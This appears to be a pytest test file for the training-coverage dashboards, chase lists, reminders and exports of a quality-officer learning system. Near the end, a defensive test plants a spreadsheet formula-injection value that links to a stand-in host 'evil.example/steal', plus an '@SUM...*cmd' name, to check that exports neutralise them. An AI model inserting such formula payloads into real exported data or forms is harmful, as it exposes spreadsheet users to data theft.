"""Coverage in SQL checked against a count made independently, on a roster built here."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, insert, select, text, update

from lms.catalog.models import Course, Lesson, LessonProgress
from lms.certificates.models import Certificate
from lms.core.clock import local_today
from lms.coverage import chase, service
from lms.extensions import db
from lms.programs.models import Program
from lms.registry.models import Filing
from lms.workshops.models import Enrollment, Workshop

TODAY = date(2026, 11, 1)
PAST = date(2026, 6, 30)


@pytest.fixture
def roster(app, factory):
    """Nine filings whose status on TODAY and on PAST is known by construction."""
    program = Program(name="2026 培训", requirements=[], starts_on=date(2026, 1, 1),
                      deadline=date(2026, 12, 31), is_current=True)
    db.session.add(program)
    course = Course(slug="c", folder="c", title="课", hours=1, required_for="all")
    db.session.add(course)
    db.session.flush()
    lesson = Lesson(course_id=course.id, slug="l", title="课", source_hash="x", body_html="", plain_text="")
    db.session.add(lesson)
    db.session.commit()
    east, west = factory.town("东街道"), factory.town("西街道")
    expected = {"today": {}, "past": {}}

    def filing(town, name, *, above=False, industry="C3484", appointed=date(2026, 1, 10),
               ended=None, cert=None, started=False, checked_in=None, claimed=True, today=None, past=None):
        ent = factory.enterprise(town=town, is_above_scale=above, industry_code=industry)
        user = factory.user("officer") if claimed else None
        status = "current" if ended is None else "replaced"
        f = factory.filing(ent, officer_name=name, appointed_on=appointed, filed_on=appointed,
                           ended_on=ended, status=status, user_id=user.id if user else None)
        if cert:
            issued, expires, revoked_at = cert
            db.session.add(Certificate(serial=f"S-{name}", user_id=user.id, program_id=program.id,
                                       holder_name=name, issued_on=issued, expires_on=expires,
                                       status="revoked" if revoked_at else "valid", revoked_at=revoked_at))
        if started:
            db.session.add(LessonProgress(user_id=user.id, lesson_id=lesson.id,
                                          first_opened_at=datetime(2026, 3, 1, tzinfo=UTC)))
        if checked_in:  # at a workshop, before any lesson: in progress from that day on
            workshop = Workshop(title="质量月培训班", venue="会议室", starts_at=checked_in,
                                ends_at=checked_in + timedelta(hours=3), capacity=10, hours=3)
            db.session.add(workshop)
            db.session.flush()
            db.session.add(Enrollment(workshop_id=workshop.id, user_id=user.id, status="attended",
                                      checkin_code=f"K{name.encode().hex()}", checked_in_at=checked_in,
                                      hours_credited=3))
        db.session.commit()
        expected["today"][name] = (town.name, above, industry, today)
        expected["past"][name] = (town.name, above, industry, past)
        return f

    valid = (date(2026, 5, 1), date(2029, 5, 1), None)
    filing(east, "甲", above=True, cert=valid, started=True, today="trained", past="trained")
    filing(east, "乙", cert=(date(2026, 5, 1), date(2026, 9, 30), None), started=True,
           today="in_progress", past="trained")  # expired since
    filing(east, "丙", cert=(date(2026, 5, 1), date(2029, 5, 1), datetime(2026, 8, 1, tzinfo=UTC)),
           started=True, today="in_progress", past="trained")  # revoked after PAST
    filing(west, "丁", industry="C1441", started=True, today="in_progress", past="in_progress")
    filing(west, "戊", industry="C1441", claimed=False, today="not_started", past="not_started")
    filing(west, "壬", checked_in=datetime(2026, 9, 15, 1, tzinfo=UTC), today="in_progress", past="not_started")
    filing(west, "己", ended=date(2026, 7, 15), cert=valid, started=True,
           today=None, past="trained")  # replaced officer: filed in the past, not today
    filing(west, "庚", appointed=date(2026, 7, 15), today="not_started", past=None)  # the successor
    filing(west, "辛", appointed=date(2026, 9, 1), cert=(date(2026, 10, 1), date(2029, 10, 1), None),
           started=True, today="trained", past=None)
    return program, expected


def independent(expected: dict, when: str, key=None) -> dict:
    counts: dict = {}
    for _name, (town, above, industry, state) in expected[when].items():
        if state is None:
            continue
        k = {"town": town, "scale": "above" if above else "sme", "industry": industry[:3], None: "all"}[key]
        c = counts.setdefault(k, {"filed": 0, "trained": 0, "in_progress": 0})
        c["filed"] += 1
        if state in ("trained", "in_progress"):
            c[state] += 1
    return counts


def as_dict(rows) -> dict:
    return {n.key: {"filed": n.filed, "trained": n.trained, "in_progress": n.in_progress} for n in rows}


@pytest.mark.parametrize("when,day", [("today", TODAY), ("past", PAST)])
@pytest.mark.parametrize("by", [None, "town", "scale", "industry"])
def test_coverage_matches_an_independent_count(roster, when, day, by):
    program, expected = roster
    assert as_dict(service.coverage(program, day, by)) == independent(expected, when, by)


def test_worst_town_first_and_percent(roster):
    program, _expected = roster
    towns = service.coverage(program, TODAY, "town")
    assert [t.key for t in towns] == ["西街道", "东街道"]
    assert towns[0].percent == 20.0 and towns[1].percent == round(100 / 3, 1)


def test_chase_list_is_everyone_filed_and_not_trained(roster):
    program, expected = roster
    names = {r.officer_name for r in db.session.execute(chase.chase_query(program, TODAY))}
    assert names == {n for n, v in expected["today"].items() if v[3] in ("in_progress", "not_started")}


def test_appointment_coverage_counts_enterprises_with_a_current_cqo(roster, factory):
    factory.enterprise(is_above_scale=True)  # an above-scale enterprise without a CQO
    numbers = service.appointment_coverage()
    assert numbers["above_scale"] == 2 and numbers["above_scale_with_cqo"] == 1


def test_the_dashboard_offers_the_enterprises_without_a_cqo_only_when_there_are_some(roster, as_staff, factory):
    from lms.registry.models import Enterprise, Filing

    for enterprise in db.session.scalars(select(Enterprise)):  # every enterprise with a CQO in post
        if not any(f.status == "current" for f in db.session.scalars(select(Filing).filter_by(enterprise_id=enterprise.id))):
            factory.filing(enterprise)
    page = as_staff.get("/staff/coverage/").get_data(as_text=True)
    assert "名册上的企业都已聘任首席质量官" in page and "without=1" not in page
    factory.enterprise(is_above_scale=True)  # one without a CQO
    page = as_staff.get("/staff/coverage/").get_data(as_text=True)
    assert "查看没有在任首席质量官的企业" in page and "名册上的企业都已聘任" not in page


def test_dashboard_chase_and_exports(roster, as_staff):
    page = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "覆盖率 25.0%" in page and "西街道" in page and "<svg" in page
    assert "C14 食品制造业" in page and "C34 通用设备制造业" in page  # divisions by name, not code alone
    assert '<option value="C14" selected>C14 食品制造业</option>' in as_staff.get(
        f"/staff/coverage/chase?as_of={TODAY}&industry=C14").get_data(as_text=True)
    chase = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&format=xlsx")
    rows = list(load_workbook(io.BytesIO(chase.data)).active.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 6
    text = as_staff.get(f"/staff/coverage/export.csv?as_of={TODAY}").get_data(as_text=True)
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, body = table[0], table[1:]
    assert header[:3] == ["备案编号", "企业名称", "统一社会信用代码"] and "培训状态" in header
    status = {row[header.index("首席质量官姓名")]: row[header.index("培训状态")] for row in body}
    assert status["甲"] == "已培训" and status["戊"] == "未开始" and status["丁"] == "学习中"
    assert status["壬"] == "学习中"  # checked in at a workshop, no lesson opened yet
    assert "己" not in status and len(body) == 8
    xlsx = as_staff.get(f"/staff/coverage/export.xlsx?as_of={TODAY}")
    assert load_workbook(io.BytesIO(xlsx.data)).active.max_row == 9
    history = as_staff.get(f"/staff/coverage/export.csv?as_of={TODAY}&history=1")
    assert "training-status-history" in history.headers["Content-Disposition"]
    table = list(csv.reader(io.StringIO(history.get_data(as_text=True).lstrip("\ufeff"))))
    states = {row[header.index("首席质量官姓名")]: row[header.index("状态")] for row in table[1:]}
    assert len(states) == 9 and states["己"] == "已变更" and states["庚"] == "在任"  # ended filings too
    page = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "history=1" in page and "导出含历史备案" in page


def test_projection_from_the_officers_trained_over_the_last_stretch():
    start, later = date(2026, 1, 1), date(2026, 1, 11)
    assert service.projection([(start, 100, 10), (later, 100, 20)], needed=80) == later + timedelta(days=80)
    assert service.projection([(start, 100, 20), (later, 100, 20)], needed=80) is None
    # filings ended, nobody trained: the percentage rose (20% to 25%), the pace is still none
    assert service.projection([(start, 100, 20), (later, 80, 20)], needed=60) is None
    assert service.projection([(start, 100, 10), (later, 100, 20)], needed=0) == later


def test_outlook_says_how_many_are_still_needed_and_how_fast(app):
    program = Program(name="p", requirements=[], starts_on=date(2026, 1, 1), deadline=date(2026, 12, 31),
                      target_percent=90)
    db.session.add(program)
    db.session.commit()
    day = date(2026, 12, 3)  # 28 days, four weeks, before the deadline
    rising = [(date(2026, 11, 3), 41, 4), (day, 41, 8)]  # 4 trained in 30 days
    outlook = service.outlook(program, service.Numbers("all", 41, 8, 10), rising, day)
    assert outlook.needed == 29 and outlook.per_week == 7.2  # 90% of 41 is 36.9: 37 trained, 8 are
    assert outlook.since == date(2026, 11, 3) and outlook.projected == day + timedelta(days=218)  # 29 at 4 a month
    done = service.outlook(program, service.Numbers("all", 10, 9, 0), rising, day)
    assert done.reached and done.per_week is None
    late = service.outlook(program, service.Numbers("all", 10, 1, 0), rising, date(2027, 1, 5))
    assert late.days_left == -5 and late.needed == 8 and late.per_week is None
    assert late.at_deadline == (0, 0) and done.at_deadline is None  # what the deadline day counted: nobody filed
    nobody = service.outlook(program, service.Numbers("all", 0, 0, 0), rising, day)
    assert not nobody.reached and nobody.sentences() == []  # no filing yet: no target "reached"


def test_dashboard_says_what_is_left_to_reach_the_target(roster, as_staff):
    page = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "（剩余 60 天）" in page
    # 8 filed on TODAY, 2 of them trained: 6 to go in 60 days
    assert "距 100% 的目标还需培训 6 人，剩余 60 天里平均每周约 0.7 人。" in page
    assert "按 2026-11-01 当时：距 100%" in page and "看今天的情况" in page  # a past day's outlook says so
    program, _expected = roster
    program.deadline = TODAY - timedelta(days=10)
    db.session.commit()
    after = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "（已过 10 天）" in after and "截止日期已过 10 天。" in after
    # On the deadline (10-22) 甲 and 辛 held certificates in force (乙's had expired, 丙's was revoked): 2 of 8.
    assert "截止日期 2026-10-22 当天的覆盖率为 25.0%（2 / 8 人）。" in after
    future = as_staff.get("/staff/coverage/?as_of=2999-01-01").get_data(as_text=True)
    assert "统计日期不能晚于今天，已按今天统计" in future and f'name="as_of" value="{local_today()}"' in future


def test_trend_matches_coverage_on_each_of_its_dates(roster):
    program, _expected = roster
    for day, percent in service.trend(program, TODAY):
        assert percent == service.coverage(program, day)[0].percent, day


def test_chase_list_drills_down_by_industry_and_scale(roster, as_staff):
    program, _expected = roster
    food = {r.officer_name for r in db.session.execute(chase.chase_query(program, TODAY, industry="C14"))}
    assert food == {"丁", "戊"}
    above = {r.officer_name for r in db.session.execute(chase.chase_query(program, TODAY, scale="above"))}
    assert above == set()  # the only above-scale officer (甲) is trained
    page = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&industry=C14").get_data(as_text=True)
    assert "丁" in page and "乙" not in page
    dashboard = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "industry=C14" in dashboard and "scale=sme" in dashboard


class FakeSMTP:
    """Stands in for the mail server: records what would have been sent."""
    sent: list = []

    def __init__(self, host, port, timeout):
        self.host = host

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

    def send_message(self, mail):
        FakeSMTP.sent.append((mail["To"], mail["Subject"], mail.get_content()))


def test_reminders_go_to_the_outbox_and_by_mail_when_configured(roster, as_staff, app, monkeypatch):
    from lms.coverage import reminders

    filing = db.session.scalar(select(Filing).where(Filing.officer_name == "丁"))
    filing.email = "ding@example.com"
    db.session.commit()
    app.config["SMTP_HOST"] = "mail.bureau.local"
    FakeSMTP.sent = []
    monkeypatch.setattr(reminders.smtplib, "SMTP", FakeSMTP)
    r = as_staff.post(f"/staff/coverage/chase/remind?as_of={TODAY}", data={"industry": "C14"})
    assert r.status_code == 302
    messages = db.session.scalars(select(reminders.OutboxMessage).order_by(reminders.OutboxMessage.to_name)).all()
    assert [(m.to_name, m.status) for m in messages] == [("丁", "sent"), ("戊", "queued")]
    assert FakeSMTP.sent[0][0] == "ding@example.com" and "2026年12月31日" in FakeSMTP.sent[0][2]
    page = as_staff.get("/staff/coverage/outbox").get_data(as_text=True)
    assert "戊" in page and "待转达" in page  # no address: the mail server cannot send it, staff pass it on
    sheet = load_workbook(io.BytesIO(as_staff.get("/staff/coverage/outbox?format=xlsx").data)).active
    assert sheet.max_row == 3


def test_printable_report_has_the_numbers_and_a_chart(roster, as_staff):
    import pypdfium2 as pdfium

    pdf = as_staff.get(f"/staff/coverage/report.pdf?as_of={TODAY}").data
    document = pdfium.PdfDocument(pdf)
    text = "".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
    assert "首席质量官培训覆盖率报告" in text and "西街道" in text and "25.0%" in text
    assert "C14" in text and "规上企业" in text
    flat = text.replace("\r", "").replace("\n", "")  # lines wrap where the page does
    assert "统计日期 2026年11月1日 · 截止日期 2026年12月31日" in flat  # no leading zeros, as Chinese writes dates
    assert "（剩余 60 天）" in flat and "距 100% 的目标还需培训 6 人，剩余 60 天里平均每周约 0.7 人。" in flat
    with as_staff.session_transaction() as session:  # the report stays Chinese on an English page
        session["lang"] = "en"
    english = as_staff.get(f"/staff/coverage/report.pdf?as_of={TODAY}").data
    page = pdfium.PdfDocument(english)[0].get_textpage().get_text_range().replace("\r", "").replace("\n", "")
    assert "还需培训 6 人" in page


LATER = date(2027, 1, 1)  # "today" for the snapshot tests: every trend date is in the past


def trend_matches_an_independent_count(program):
    for day, percent in service.trend(program, TODAY, today=LATER):
        assert percent == service.coverage(program, day)[0].percent, day


def test_trend_keeps_past_days_and_reads_them_back(roster):
    from lms.coverage.snapshots import CoverageSnapshot

    program, _expected = roster
    first = service.trend(program, TODAY, today=LATER)
    assert db.session.scalar(select(func.count()).select_from(CoverageSnapshot)) == len(first)
    assert service.trend(program, TODAY, today=LATER) == first


def test_trend_is_recounted_after_a_revocation(roster):
    program, _expected = roster
    trend_matches_an_independent_count(program)
    cert = db.session.scalar(select(Certificate).where(Certificate.holder_name == "甲"))
    cert.status, cert.revoked_at = "revoked", datetime(2026, 5, 2, tzinfo=UTC)
    db.session.commit()
    trend_matches_an_independent_count(program)


def test_trend_is_recounted_after_a_roster_change_in_core_sql(roster):
    program, _expected = roster
    trend_matches_an_independent_count(program)
    db.session.execute(update(Filing).where(Filing.officer_name == "甲").values(
        ended_on=date(2026, 3, 1), status="replaced"))
    db.session.commit()
    trend_matches_an_independent_count(program)


def test_trend_is_recounted_after_a_backdated_certificate(roster, factory):
    program, _expected = roster
    trend_matches_an_independent_count(program)
    user = db.session.scalar(select(Filing).where(Filing.officer_name == "丁")).user_id
    db.session.execute(insert(Certificate), [{"serial": "S-back", "user_id": user, "program_id": program.id,
                                              "holder_name": "丁", "issued_on": date(2026, 2, 1),
                                              "expires_on": date(2029, 2, 1), "status": "valid"}])
    db.session.commit()
    trend_matches_an_independent_count(program)


def test_a_certificate_issued_today_keeps_the_snapshots(roster):
    from lms.coverage.snapshots import current_version

    program, _expected = roster
    service.trend(program, TODAY)
    before = current_version()
    user = db.session.scalar(select(Filing).where(Filing.officer_name == "丁")).user_id
    db.session.add(Certificate(serial="S-today", user_id=user, program_id=program.id, holder_name="丁",
                               issued_on=local_today(), expires_on=local_today() + timedelta(days=1000)))
    db.session.commit()
    assert current_version() == before


def test_raw_sql_on_filings_invalidates(roster):
    from lms.coverage.snapshots import current_version

    program, _expected = roster
    service.trend(program, TODAY, today=LATER)
    before = current_version()
    db.session.execute(text("UPDATE filing SET mobile = mobile"))
    db.session.commit()
    assert current_version() > before


def test_dashboard_counts_appointment_coverage(roster, as_staff, factory):
    factory.enterprise(is_above_scale=True)
    assert service.overview(*roster[:1], TODAY).appointment == service.appointment_coverage()


def test_trend_is_recounted_after_a_roster_import(roster):
    """The import writes its rows through the driver in bulk, not through SQLAlchemy's statements."""
    from lms.registry.importer import parse_roster
    from lms.registry.roster_plan import build_preview
    from lms.registry.roster_write import commit_preview
    from tests.conftest import make_uscc
    from tests.registry.roster_files import as_csv, row

    program, _expected = roster
    trend_matches_an_independent_count(program)
    data = as_csv([row(make_uscc(), "东街道", officer="壬", 聘任日期="2026-02-01", 备案日期="2026-02-05")])
    preview = build_preview(parse_roster(io.BytesIO(data), "roster.csv"))
    assert not preview.errors and preview.counts["filing_added"] == 1
    commit_preview(preview, "roster.csv")
    trend_matches_an_independent_count(program)


def test_one_group_counts_each_standing_apart(roster, factory):
    """Trained, in progress and filed only in one town, scale and industry, with an officer
    holding a replaced and a new certificate (counted once) and a trained one who has also
    started (trained, not in progress)."""
    program, _expected = roster
    _course, lesson = db.session.execute(select(Course, Lesson).join(Lesson)).one()
    town = factory.town("南街道")
    valid = {"program_id": program.id, "holder_name": "x", "issued_on": date(2026, 5, 1),
             "expires_on": date(2029, 5, 1)}
    standings = ["trained", "trained", "trained", "in_progress", "in_progress", "filed", "filed", "unclaimed"]
    for i, standing in enumerate(standings):
        user = None if standing == "unclaimed" else factory.user("officer")
        factory.filing(factory.enterprise(town=town, industry_code="C2710"), appointed_on=date(2026, 2, 1),
                       user_id=user.id if user else None)
        if standing == "trained":
            db.session.add(Certificate(serial=f"G-{i}", user_id=user.id, status="valid", **valid))
            if i == 0:
                db.session.add(Certificate(serial=f"G-{i}-old", user_id=user.id, status="replaced", **valid))
        if standing == "in_progress" or i == 1:
            db.session.add(LessonProgress(user_id=user.id, lesson_id=lesson.id,
                                          first_opened_at=datetime(2026, 3, 1, tzinfo=UTC)))
    db.session.commit()
    south = {n.key: n for n in service.coverage(program, TODAY, "town")}["南街道"]
    assert (south.filed, south.trained, south.in_progress, south.not_started) == (8, 3, 2, 3)
    c27 = {n.key: n for n in service.coverage(program, TODAY, "industry")}["C27"]
    assert (c27.filed, c27.trained, c27.in_progress) == (8, 3, 2)


def test_chase_list_by_standing_and_reminders_that_fit_it(roster, as_staff):
    from lms.coverage import reminders

    program, _expected = roster

    def names(status):
        return {r.officer_name for r in db.session.execute(chase.chase_query(program, TODAY, status=status))}

    assert names("unclaimed") == {"戊"} and names("not_started") == {"庚"}
    assert names("in_progress") == {"乙", "丙", "丁", "壬"}
    assert names("unclaimed") | names("not_started") | names("in_progress") == names("")
    assert names("lapsed") == {"乙", "丙"}  # expired and revoked: trained once, to train again
    page = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&status=unclaimed").get_data(as_text=True)
    assert "戊" in page and "丁" not in page and 'name="status" value="unclaimed"' in page  # kept for 发送提醒
    assert "共 1 人" in page
    nobody = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&status=unclaimed&industry=C99").get_data(as_text=True)
    assert "没有符合筛选条件的待培训人员" in nobody and "都已取得有效证书" not in nobody
    as_staff.post(f"/staff/coverage/chase/remind?as_of={TODAY}", data={"industry": "C14"})
    bodies = dict(db.session.execute(select(reminders.OutboxMessage.to_name, reminders.OutboxMessage.body)).all())
    assert "/register" in bodies["戊"] and "邀请码" in bodies["戊"]  # cannot sign in yet: how to begin
    assert "尚未完成" in bodies["丁"] and "/register" not in bodies["丁"]


HOSTILE = '=HYPERLINK("http://evil.example/steal","点击查看")'


def test_exports_show_typed_formulas_as_text_never_as_formulas(app, factory, as_staff):
    """A name the registry sent as a spreadsheet formula must not run where staff open the export."""
    program = Program(name="2026 培训", requirements=[], starts_on=date(2026, 1, 1),
                      deadline=date(2026, 12, 31), is_current=True)
    db.session.add(program)
    db.session.commit()
    factory.filing(factory.enterprise(name=HOSTILE), officer_name="@SUM(1+1)*cmd", appointed_on=date(2026, 1, 10),
                   filed_on=date(2026, 1, 10), mobile="13912345678")
    for url in (f"/staff/coverage/export.xlsx?as_of={TODAY}", f"/staff/coverage/chase?as_of={TODAY}&format=xlsx"):
        cells = [c for row in load_workbook(io.BytesIO(as_staff.get(url).data)).active.iter_rows() for c in row]
        assert HOSTILE in [c.value for c in cells], url  # the text as typed ...
        assert {c.data_type for c in cells if c.value == HOSTILE} == {"s"}, url  # ... stored as text
        assert not [c for c in cells if c.data_type == "f"], url
    text = as_staff.get(f"/staff/coverage/export.csv?as_of={TODAY}").get_data(as_text=True)
    row = next(r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if HOSTILE in "".join(r))
    assert "'" + HOSTILE in row and "'@SUM(1+1)*cmd" in row  # the apostrophe spreadsheets read as "text"
    assert "13912345678" in row  # numbers are left alone


def test_revoking_a_corrected_certificate_leaves_its_officer_untrained(roster):
    """A reissue marks the old certificate replaced; once the correction is revoked, nothing of
    the officer's is in force: the dashboard, the API's status and the trend all drop them."""
    from lms.certificates import service as certificates

    program, _expected = roster
    old = db.session.scalar(select(Certificate).where(Certificate.holder_name == "甲"))
    new = certificates.reissue(old, "甲", "姓名更正")
    assert service.coverage(program, TODAY)[0].trained == 2  # the correction stands for it
    certificates.revoke(new, "培训记录不实")
    trained_today = db.session.scalars(chase.chase_query(program, local_today()).with_only_columns(
        Filing.officer_name)).all()
    assert "甲" in trained_today  # on the chase list again
    assert service.coverage(program, local_today())[0].trained == 1  # 辛 alone
    assert service.coverage(program, PAST)[0].trained == 4  # before the revocation: as before


def test_coverage_rounds_as_a_calculator_but_never_up_to_the_target_nor_down_to_nothing():
    assert service.share_percent(1999, 2000) == 99.9 and service.share_percent(19999, 20000) == 99.9
    assert service.share_percent(2000, 2000) == 100.0
    assert service.share_percent(1, 3) == 33.3 and service.share_percent(2, 3) == 66.7
    assert service.share_percent(3, 19) == 15.8 and service.share_percent(1, 7) == 14.3  # as Excel shows them
    assert service.share_percent(1, 2000) == 0.1 and service.share_percent(0, 2000) == 0.0
    assert service.Numbers("all", 20000, 19999, 0).percent == 99.9


def test_a_day_is_a_beijing_day(roster, app):
    """At 00:18 in Beijing it is already the next day: a revocation then counts on that day,
    not on the day before as the UTC date would have it; and "today" is Beijing's."""
    from lms.core.clock import end_of_local_day

    program, _expected = roster
    cert = db.session.scalar(select(Certificate).where(Certificate.holder_name == "甲"))
    cert.status, cert.revoked_at = "revoked", datetime(2026, 11, 1, 16, 18, tzinfo=UTC)  # 11-02 00:18 Beijing
    db.session.commit()
    assert service.coverage(program, date(2026, 11, 1))[0].trained == 2  # still in force all of 11-01
    assert service.coverage(program, date(2026, 11, 2))[0].trained == 1
    assert end_of_local_day(date(2026, 11, 1)) == datetime(2026, 11, 1, 16, 0, tzinfo=UTC)
    assert local_today(datetime(2026, 12, 2, 16, 30, tzinfo=UTC)) == date(2026, 12, 3)
    assert local_today(datetime(2026, 12, 2, 15, 59, tzinfo=UTC)) == date(2026, 12, 2)


def test_the_deadline_day_is_still_a_day_to_train(roster):
    program, _expected = roster
    total = service.coverage(program, program.deadline)[0]
    outlook = service.outlook(program, total, service.trend_counts(program, program.deadline, latest=total),
                              program.deadline)
    assert outlook.days_text() == "（今天截止）"
    assert any("今天是截止日期" in text for text, _warning in outlook.sentences())
    assert not any("截止日期已到" in text for text, _warning in outlook.sentences())


def test_the_row_of_enterprises_without_an_industry_code_lists_its_officers(roster, as_staff, factory):
    program, _expected = roster
    ent = factory.enterprise(town=factory.town("北街道"), industry_code="")
    factory.filing(ent, officer_name="无码", appointed_on=date(2026, 2, 1), filed_on=date(2026, 2, 1))
    dashboard = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    link = f"/staff/coverage/chase?as_of={TODAY}&amp;industry=%E2%80%94"
    assert link in dashboard
    chase = as_staff.get(link.replace("&amp;", "&")).get_data(as_text=True)
    assert "无码" in chase and "甲" not in chase


def test_appointments_are_todays_and_say_so(roster, as_staff, client):
    from lms.api.models import create_token

    dashboard = as_staff.get(f"/staff/coverage/?as_of={PAST}").get_data(as_text=True)
    assert f"按今天（{local_today()}）的名册统计" in dashboard
    assert "的名册统计" not in as_staff.get("/staff/coverage/").get_data(as_text=True)
    _token, plain = create_token("registry")
    db.session.commit()
    headers = {"Authorization": f"Bearer {plain}"}
    refused = client.get(f"/api/v1/appointments?as_of={PAST}", headers=headers)
    assert refused.status_code == 400 and "as_of is not supported" in refused.get_json()["error"]
    assert client.get("/api/v1/appointments", headers=headers).get_json()["as_of"] == local_today().isoformat()


def test_reminders_from_a_past_days_list_go_only_to_those_untrained_today(roster, as_staff):
    """辛 was still to train on 2026-09-15 and holds a certificate since 10-01: looking at that
    day's list and pressing the button must not tell them to start."""
    from lms.coverage import reminders

    page = as_staff.get("/staff/coverage/chase?as_of=2026-09-15").get_data(as_text=True)
    assert "辛" in page and "统计日期 2026-09-15" in page and "按今天的名单发送提醒" in page
    as_staff.post("/staff/coverage/chase/remind?as_of=2026-09-15", data={})
    reminded = set(db.session.scalars(select(reminders.OutboxMessage.to_name)))
    assert "丁" in reminded and "辛" not in reminded


def test_a_mistyped_date_is_said_and_counted_as_of_today(roster, as_staff):
    page = as_staff.get("/staff/coverage/?as_of=2026-13-01").get_data(as_text=True)
    assert "统计日期 2026-13-01 不是有效的日期" in page and f'value="{local_today()}"' in page


def test_the_chase_list_says_whose_certificate_expired_or_was_revoked(roster, as_staff):
    page = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}").get_data(as_text=True)
    assert "证书 S-乙 已于 2026-09-30 过期" in page and "证书 S-丙 已被撤销" in page
    assert "S-丁" not in page  # never certified: nothing to say
    before = as_staff.get(f"/staff/coverage/chase?as_of={date(2026, 4, 1)}").get_data(as_text=True)
    assert "S-乙" not in before  # not yet issued then
    sheet = load_workbook(io.BytesIO(as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&format=xlsx").data)).active
    header, *rows = sheet.iter_rows(values_only=True)
    reasons = {r[0]: r[header.index("原有证书")] for r in rows}
    assert reasons["乙"] == "S-乙 已于 2026-09-30 过期" and reasons["丙"] == "S-丙 已被撤销" and reasons["丁"] is None


def test_a_town_nobody_is_filed_in_is_listed_as_such_after_the_others(roster, as_staff, factory):
    factory.town("高岳街道")
    page = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "<td>高岳街道</td><td colspan=\"5\" class=\"text-muted\">尚无在任备案</td>" in page
    assert page.index("西街道") < page.index("高岳街道") and page.index("东街道") < page.index("高岳街道")
    assert page.count("高岳街道") == 1  # in the table, not as a 0 % bar


def test_the_chase_list_filters_by_industry_and_scale_itself_and_drops_a_filter_that_means_nothing(roster, as_staff):
    page = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}").get_data(as_text=True)
    assert '<option value="C14">C14 食品制造业</option>' in page and '<option value="sme">中小企业</option>' in page
    above = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&scale=above").get_data(as_text=True)
    assert '<option value="above" selected>' in above and "丁" not in above  # 丁's enterprise is an SME
    bogus = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&scale=bogus&status=x").get_data(as_text=True)
    assert "丁" in bogus and "清除" not in bogus  # no filter applied, none pretended
    nowhere = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&town=99999").get_data(as_text=True)
    assert "没有这个镇街，已显示全部镇街。" in nowhere and "丁" in nowhere
    mobile = db.session.scalar(select(Filing.mobile).where(Filing.officer_name == "丁"))
    assert f'<a href="tel:{mobile}">{mobile}</a>' in page  # a tap on a phone calls them


def test_industry_divisions_are_named_in_the_page_language_and_the_export_keeps_the_chinese(roster, as_staff):
    chinese = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "C14 食品制造业" in chinese
    as_staff.get("/lang/en")
    english = as_staff.get(f"/staff/coverage/?as_of={TODAY}").get_data(as_text=True)
    assert "C14 Manufacture of foods" in english and "食品制造业" not in english
    chase = as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&industry=C14").get_data(as_text=True)
    assert '<option value="C14" selected>C14 Manufacture of foods</option>' in chase
    sheet = load_workbook(io.BytesIO(as_staff.get(f"/staff/coverage/chase?as_of={TODAY}&industry=C14&format=xlsx").data))
    assert "C14 食品制造业" in " ".join(str(c.value) for row in sheet["说明"].iter_rows() for c in row)


def test_a_town_with_no_filing_gets_no_bar_in_the_report_and_is_named_instead(roster, as_staff, factory):
    import pypdfium2 as pdfium

    factory.town("北山镇")  # no enterprise filed there yet
    pdf = pdfium.PdfDocument(as_staff.get(f"/staff/coverage/report.pdf?as_of={TODAY}").data)
    flat = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf))).replace("\r", "").replace("\n", "")
    assert "尚无在任备案：北山镇" in flat
    assert "北山镇 0 0 0 0 —" in flat  # its row has no percentage,
    assert flat.count("北山镇") == 2  # and the chart no bar: the note and the row only


def test_a_past_dates_chase_list_shows_who_had_claimed_by_then(roster, as_staff):
    program, _expected = roster
    later = db.session.scalar(select(Filing).where(Filing.officer_name == "庚"))
    later.claimed_at = datetime(2026, 10, 20, 2, tzinfo=UTC)  # claimed after PAST, before TODAY
    db.session.commit()

    def names(day, status):
        return {r.officer_name for r in db.session.execute(chase.chase_query(program, day, status=status))}

    assert "庚" in names(TODAY, "not_started") and "庚" not in names(TODAY, "unclaimed")
    on_the_day = date(2026, 10, 19)
    assert "庚" in names(on_the_day, "unclaimed") and "庚" not in names(on_the_day, "not_started")
    page = as_staff.get(f"/staff/coverage/chase?as_of={on_the_day}").get_data(as_text=True)
    row = page[page.index("庚"):].split("</tr>")[0]
    assert "未认领" in row


def test_an_account_staff_create_for_a_filing_is_dated(app, as_staff, factory):
    filing = factory.filing(factory.enterprise(), officer_name="孙", mobile="13800000077")
    as_staff.post(f"/staff/registry/filings/{filing.id}/account")
    db.session.refresh(filing)
    assert filing.user_id is not None and filing.claimed_at is not None
